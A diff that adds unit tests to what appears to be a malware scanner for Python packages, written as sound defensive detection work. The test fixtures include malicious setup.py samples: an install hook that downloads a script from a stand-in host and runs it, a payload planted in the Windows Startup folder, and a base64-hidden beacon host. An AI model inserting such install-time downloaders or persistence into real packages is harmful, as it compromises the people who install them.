@@ -165,6 +165,36 @@ static void test_rules_behave__download_exec(void **state)
 		-1);
 }
 
+/* A downloaded .py started by a new interpreter is a second stage. */
+static void test_rules_behave__download_script(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import subprocess, sys\n"
+			 "import requests as fetch\n"
+			 "from setuptools.command.install import install\n"
+			 "class Up(install):\n"
+			 "    def run(self):\n"
+			 "        r = fetch.get('https://cdn.example.invalid/a/u.py')\n"
+			 "        with open('u.py', 'wb') as f:\n"
+			 "            f.write(r.content)\n"
+			 "        subprocess.check_call([sys.executable, 'u.py'])\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_CRITICAL);
+	/* near miss: a generated .py is run, nothing was downloaded */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import subprocess, sys\n"
+			 "def gen():\n"
+			 "    with open('gen_tables.py', 'w') as f:\n"
+			 "        f.write(TEMPLATE)\n"
+			 "    subprocess.check_call([sys.executable, 'gen_tables.py'])\n"
+			 "gen()\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		-1);
+}
+
 /* ---- proc.* ------------------------------------------------------------------
  */
 
@@ -329,6 +359,25 @@ static void test_rules_behave__persist_and_miner(void **state)
 			 "keep('x')\n",
 			 LG_RULE_PERSIST),
 		LG_SEV_HIGH);
+	/* a file moved into the Startup folder from an install hook */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import os\n"
+			 "def plant(src):\n"
+			 "    dst = os.path.join(os.environ['APPDATA'], r'Microsoft"
+			 "\\Windows\\Start Menu\\Programs\\Startup\\u.py')\n"
+			 "    os.rename(src, dst)\n"
+			 "plant('u.py')\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_CRITICAL);
+	/* near miss: a rename that names no autostart location */
+	assert_int_equal(scan_sev("demo-1.0/setup.py",
+				  "import os\n"
+				  "def mv():\n"
+				  "    os.rename('build/lib.tmp', 'build/lib')\n"
+				  "mv()\n",
+				  LG_RULE_PERSIST),
+			 -1);
 	/* near miss: reading a shell rc file for completion setup */
 	assert_int_equal(scan_sev("pkg/compl.py",
 				  "import os\n"
@@ -366,6 +415,31 @@ static void test_rules_behave__destinations(void **state)
 			 "import requests\n"
 			 "HOOK = 'https://pastebin.com/raw/x'\n"
 			 "def ping():\n    return requests.get('http://127.0.0.1:8000/')\n",
+			 LG_RULE_SUSPICIOUS_DEST),
+		-1);
+}
+
+/* E2: a destination hidden in base64. */
+static void test_rules_behave__encoded_destination(void **state)
+{
+	(void)state;
+	/* base64 of 'x.example.invalid' */
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import base64, socket\n"
+			 "def beacon():\n"
+			 "    socket.gethostbyname(base64.b64decode("
+			 "'eC5leGFtcGxlLmludmFsaWQ='))\n"
+			 "beacon()\n",
+			 LG_RULE_SUSPICIOUS_DEST),
+		LG_SEV_HIGH);
+	/* near miss: a decoded payload stays local; a plain host */
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import base64, requests\n"
+			 "ICON = base64.b64decode('aGVsbG8=')\n"
+			 "def ping():\n"
+			 "    return requests.get('https://api.example.invalid/v1')\n",
 			 LG_RULE_SUSPICIOUS_DEST),
 		-1);
 }
@@ -885,6 +959,8 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__download_exec),
 		cmocka_unit_test(test_rules_behave__import_process),
 		cmocka_unit_test(test_rules_behave__import_process_near_misses),
+		cmocka_unit_test(test_rules_behave__download_script),
+		cmocka_unit_test(test_rules_behave__encoded_destination),
 		cmocka_unit_test(test_rules_behave__lolbin),
 		cmocka_unit_test(test_rules_behave__reverse_shell),
 		cmocka_unit_test(test_rules_behave__persist_and_miner),
